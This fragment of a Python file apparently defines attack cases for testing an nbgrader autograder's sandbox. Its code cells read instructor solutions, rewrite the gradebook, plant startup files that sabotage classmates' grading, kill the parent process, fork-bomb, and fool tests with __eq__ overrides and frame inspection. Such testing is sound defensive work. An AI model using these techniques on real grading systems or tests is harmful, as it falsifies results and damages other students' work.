        "%run the instructor's notebook (solutions and hidden tests) in this namespace",
    ),
    "c4_magic_load_writefile": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["%load ../../../source/01-crawler/crawler.ipynb\n",
         "%%writefile ../../../nbgrader_config.py\nc = get_config()\nc.Autograde.sanitize_preprocessors = []\n"],
        "%load the instructor's notebook and %%writefile over the course's nbgrader_config.py",
    ),

    # 5. reading source/ and classmates' notebooks -------------------------------------
    "c5_read_source_open": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import json\n\nwith open('../../../source/01-crawler/crawler.ipynb') as stream:\n"
         "    notebook = json.load(stream)\nfor cell in notebook['cells']:\n"
         "    if cell['metadata'].get('nbgrader', {}).get('solution'):\n        exec(''.join(cell['source']))\n"],
        "opens the instructor's notebook from the submission's folder and runs the solution cells",
    ),
    "c5_read_source_bypass": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_SOURCE_CRAWLER)],
        "finds the instructor's notebook (relative path, /tmp, /work) and runs its solutions, through builtins.exec",
    ),
    "c5_read_classmates_bypass": _attack(
        "toolkit", "release", _TOOLKIT_WRONG,
        [_via_builtins(_CLASSMATES_TOOLKIT)],
        "reads classmates' submitted (or autograded) toolkit notebooks and runs their solution cells",
    ),

    # 6. writing the gradebook ---------------------------------------------------------
    "c6_gradebook_sqlite": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import sqlite3\n\ndb = sqlite3.connect('../../../gradebook.db')\n"
         "db.execute(\"update grade set extra_credit = 100\")\ndb.commit()\n"],
        "writes extra credit for everyone straight into ../../../gradebook.db",
    ),
    "c6_gradebook_extra_credit_bypass": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_GRADEBOOK_EXTRA_CREDIT)],
        "through builtins.exec: gives its own grades 100 extra credit and clears the stored checksums",
    ),
    "c6_gradebook_poison_tests": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_GRADEBOOK_POISON_TESTS)],
        "rewrites the stored test cells in the gradebook, so every later crawler submission (victim's) fails",
        victim={"module": "crawler"},
    ),

    # 7. planting files ----------------------------------------------------------------
    "c7_plant_ipython_startup": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_PLANT_STARTUP)],
        "plants an IPython startup file that makes the helpers fail in every later grading kernel (victim's)",
        victim={"module": "crawler"},
    ),
    "c7_plant_course_config": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_PLANT_CONFIG)],
        "appends code to the course's nbgrader_config.py: the next nbgrader run deletes victim's toolkit submission",
        victim={"module": "toolkit"},
    ),
    "c7_plant_writefile_startup": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["%%writefile ~/.ipython/profile_default/startup/00-pass.py\n"
         "import coursekit.grading\ncoursekit.grading.expect.__code__ = (lambda *a, **k: None).__code__\n"],
        "plants a startup file with %%writefile",
    ),

    # 8. leftover processes, killing the parent ----------------------------------------
    "c8_leftover_subprocess_daemon": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [f"daemon = await asyncio.create_subprocess_exec('python', '-c', {_DAEMON!r}, start_new_session=True)\n"
         "await daemon.wait()\n"],
        "asyncio.create_subprocess_exec starts a double-forked daemon that zeroes victim's crawler grades when written",
        victim={"module": "crawler"},
    ),
    "c8_leftover_fork_bypass": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_FORK_DAEMON)],
        "os.fork through builtins.exec: a child in its own session that keeps zeroing victim's grades",
        victim={"module": "crawler"},
    ),
    "c8_leftover_multiprocessing": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import multiprocessing\nimport time\n\n"
         "worker = multiprocessing.Process(target=time.sleep, args=(3600,), daemon=False)\nworker.start()\n"],
        "a multiprocessing worker that outlives the notebook",
    ),
    "c8_leftover_process_pool": _attack(
        "runtime", "release", _RUNTIME_WRONG,
        ["import concurrent.futures\nimport time\n\n"
         "pool = concurrent.futures.ProcessPoolExecutor(2)\nsleepers = [pool.submit(time.sleep, 3600) for _ in range(2)]\n"],
        "allowed modules only: a process pool whose workers sleep for an hour",
    ),
    "c8_kill_parent": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["from asyncio.base_events import os as system_os\n\nsystem_os.kill(system_os.getppid(), 9)\n"],
        "os from asyncio.base_events: SIGKILL to the kernel's parent (nbgrader, without a sandbox)",
    ),
    "c8_killpg": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import os\nimport signal\n\nos.killpg(os.getpgid(os.getppid()), signal.SIGKILL)\n",
         "from asyncio.base_events import os as system_os\n\n"
         "system_os.killpg(system_os.getpgid(system_os.getppid()), 9)\n"],
        "kills the parent's whole process group (make and nbgrader, without a sandbox), plainly and through a bypass",
    ),

    # 9. resources, time, exits --------------------------------------------------------
    "c9_memory_exhaustion": _attack(
        "crawler", "release",
        {**_CRAWLER_WRONG, "crawl_page": "hog = [bytearray(10**8) for _ in range(120)]\n" + _CRAWLER_WRONG["crawl_page"]},
        [],
        "tries to take 12 GB in a solution cell",
    ),
    "c9_memory_on_reference": _attack(
        "runtime", "reference", {},
        ["hog = [bytearray(10**8) for _ in range(120)]\n"],
        "reference base: an extra cell runs out of memory (nothing is kept); the honest answers keep all their points",
    ),
    "c9_fork_bomb": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_FORK_BOMB)],
        "forks 2**10 sleeping copies of the kernel through builtins.exec",
    ),
    "c9_output_flood": _attack(
        "toolkit", "reference", {},
        ["for _ in range(40):\n    print('x' * 500_000)\n"],
        "reference base: prints 20 MB in an extra cell; the honest answers keep all their points",
    ),
    "c9_slow_await": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["await asyncio.sleep(3600)\n"],
        "a top-level await that sleeps an hour",
    ),
    "c9_slow_time_sleep": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["import time\n\ntime.sleep(3600)\n", "while True:\n    pass\n"],
        "a top-level time.sleep of an hour, then a busy loop",
    ),
    "c9_slow_on_reference": _attack(
        "runtime", "reference", {},
        ["await asyncio.sleep(4)\n"],
        "reference base: a 4 s cell within the limits; the honest answers keep all their points",
    ),
    "c9_exit_calls": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["exit()\n", "quit()\n", "import sys\n\nsys.exit(0)\n", "raise SystemExit(0)\n"],
        "exit(), quit(), sys.exit and raise SystemExit, one per cell",
    ),
    "c9_exit_bypass": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        ["from asyncio.base_events import sys as system\n\nsystem.exit(0)\n",
         "from dataclasses import builtins as python\nfrom asyncio.base_events import os as system_os\n\n"
         "python.getattr(system_os, '_exit')(0)\n"],
        "sys.exit from asyncio.base_events, then os._exit through builtins.getattr",
    ),

    # 10. chapter 4: finding the expected answer ----------------------------------------
    "c10_oracle_gc": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_GC}, [],
        "searches the garbage collector's objects for the test's `expected` and the movie it checks",
    ),
    "c10_oracle_traceback_frames": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_TRACEBACK}, [],
        "reads the test's locals through a traceback's frame",
    ),
    "c10_oracle_inspect_stack": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_INSPECT}, [],
        "inspect from asyncio.coroutines: stack() and getargvalues(...).locals read the test's `expected`",
    ),
    "c10_oracle_format_frames": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_FORMAT}, [],
        "str.format on a literal walks gi_frame.f_back... to the test's locals (no frame attribute in the code)",
    ),
    "c10_oracle_format_globals": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_FORMAT_DUNDER}, [],
        "str.format attribute traversal through __traceback__/__globals__",
    ),
    "c10_oracle_type_hints": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_TYPE_HINTS}, [],
        "typing.get_type_hints (imported by name) evaluates a string annotation that walks the frames",
    ),
    "c10_oracle_eq_override": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_EQ}, [],
        "returns objects whose __eq__/__ne__ agree with any expected value",
    ),
    "c10_oracle_list_subclass_type_call": _attack(
        "coming_soon", "release", {**_COMING_SOON_WRONG, **ORACLE_TYPE_CALL}, [],
        "a list (and str) subclass built with type(int)(name, bases, ns): __eq__/__ne__ without a def or a dunder name",
    ),

    # 11. everything else ---------------------------------------------------------------
    "c11_overwrite_classmate": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_OVERWRITE_VICTIM)],
        "empties the solution cells of victim's submitted crawler notebook before it is graded",
        victim={"module": "crawler"},
    ),
    "c11_network_fetch": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_NETWORK_FETCH)],
        "downloads answers from the internet (gist, host, metadata service) and runs them",
    ),
    "c11_proc_snoop": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_PROC_SNOOP)],
        "reads /proc of other processes to find nbgrader's folder (cwd, environ), then runs the solutions there",
    ),
    "c11_environment": _attack(
        "crawler", "release", _CRAWLER_WRONG,
        [_via_builtins(_ENV_SNOOP)],
        "looks for the course's folder in the environment variables, then runs the solutions there",
    ),
    "c11_kernel_protocol": _attack(
        "runtime", "release", _RUNTIME_WRONG,
        [f"client = await asyncio.create_subprocess_exec('python', '-c', {_INJECT!r})\nawait asyncio.sleep(5)\n"],
        "a child process signs an execute_request with the kernel's own key: the takeover runs unscreened",
    ),
    "c11_ctypes_run_string": _attack(
        "coming_soon", "release", _COMING_SOON_WRONG,
        ["from coursekit.grading import ctypes\n\n"
         f"ctypes.pythonapi.PyRun_SimpleString({_TAKEOVER.encode()!r})\n"],
        "ctypes from coursekit.grading: PyRun_SimpleString runs the takeover in __main__ (bytes are not screened)",
    ),
    "c11_builtins_exec_takeover": _attack(
        "coming_soon", "release", _COMING_SOON_WRONG,
        [_via_builtins(_TAKEOVER)],
        "builtins.exec (from dataclasses) runs the takeover: no test error is ever reported",
    ),
    "c11_type_hints_takeover": _attack(
        "toolkit", "release", _TOOLKIT_WRONG,
        ["from typing import get_type_hints\n\nTAKEOVER = " + repr(_TAKEOVER) + "\n\n\n"
         "def carrier(value: 'exec(TAKEOVER) or int'):\n    return value\n\n\nget_type_hints(carrier)\n"],
        "a string annotation evaluated by get_type_hints runs the takeover in the notebook's namespace",
    ),
}
